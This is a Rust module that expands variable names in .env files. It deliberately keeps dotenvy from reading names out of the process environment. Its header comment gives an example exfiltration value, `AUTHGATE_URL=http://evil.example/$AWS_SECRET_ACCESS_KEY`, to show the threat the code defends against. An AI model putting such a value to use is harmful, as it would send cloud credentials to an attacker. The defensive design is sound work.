//! Expands `$NAME` in the values of a `.env` file.
//!
//! dotenvy expands names too, but it looks for them in the process environment first. With
//! `AUTHGATE_URL=http://evil.example/$AWS_SECRET_ACCESS_KEY`, a `.env` in a strange folder would
//! send that variable away. We therefore hide each `$` from dotenvy, and expand names ourselves from
//! earlier lines of the same file.

/// Stands for a `$` in what dotenvy reads. A NUL marks the place, and the escapes around it tell how
/// the `$` was quoted: dotenvy makes a line break of `\n`, except between single quotes, and also of
/// the first `n` if a backslash is before it.
const HIDDEN: &str = "n\0\\n";
/// dotenvy returns this for [`HIDDEN`] outside single quotes.
const EXPANDABLE: &str = "n\0\n";
/// dotenvy returns this for [`HIDDEN`] after a backslash.
const ESCAPED: &str = "\n\0\n";
/// dotenvy returns this for [`HIDDEN`] between single quotes.
const QUOTED: &str = HIDDEN;

const UNKNOWN_NAME: &str = "has a $ that names no variable from an earlier line of the file (the environment is not \
     searched). Put a value with $ in single quotes";
const MORE_THAN_A_NAME: &str = "has a ${...} with more than a name in it, such as a shell's ${NAME:-DEFAULT}, which is \
     not supported. Write the value itself, and put a value with $ in single quotes";
const TOO_LONG: &str = "makes the file larger than 64 KiB when its variables are expanded";

/// Replaces each `$` in a file, which must not contain a NUL.
pub(super) fn hide_dollars(file: &str) -> String {
    file.replace('$', HIDDEN)
}

/// Expands the names in a value that dotenvy has read from a text of [`hide_dollars`]. The error
/// says what is wrong with the value.
pub(super) fn expand<'a>(
    value: &str,
    known: impl Fn(&str) -> Option<&'a str>,
    limit: usize,
) -> Result<String, &'static str> {
    let value = value.replace(ESCAPED, "$").replace(QUOTED, "$");
    let mut pieces = value.split(EXPANDABLE);
    let mut expanded = String::new();
    // Check before copying: if each line named the previous one twice, every line would double the
    // value.
    let mut push = |text: &str| {
        if expanded.len() + text.len() > limit {
            return Err(TOO_LONG);
        }
        expanded.push_str(text);
        Ok(())
    };
    push(pieces.next().unwrap_or_default())?;
    for piece in pieces {
        let (name, rest) = split_name(piece).ok_or(UNKNOWN_NAME)?;
        let value = match known(name) {
            Some(value) => value,
            None if name.chars().all(is_in_name) => return Err(UNKNOWN_NAME),
            None => return Err(MORE_THAN_A_NAME),
        };
        push(value)?;
        push(rest)?;
    }
    Ok(expanded)
}

fn is_in_name(character: char) -> bool {
    character.is_ascii_alphanumeric() || character == '_'
}

/// Splits `NAME...` or `{NAME}...` after the name.
fn split_name(text: &str) -> Option<(&str, &str)> {
    if let Some(braced) = text.strip_prefix('{') {
        return braced.split_once('}');
    }
    let end = text
        .find(|character: char| !is_in_name(character))
        .unwrap_or(text.len());
    Some(text.split_at(end))
}
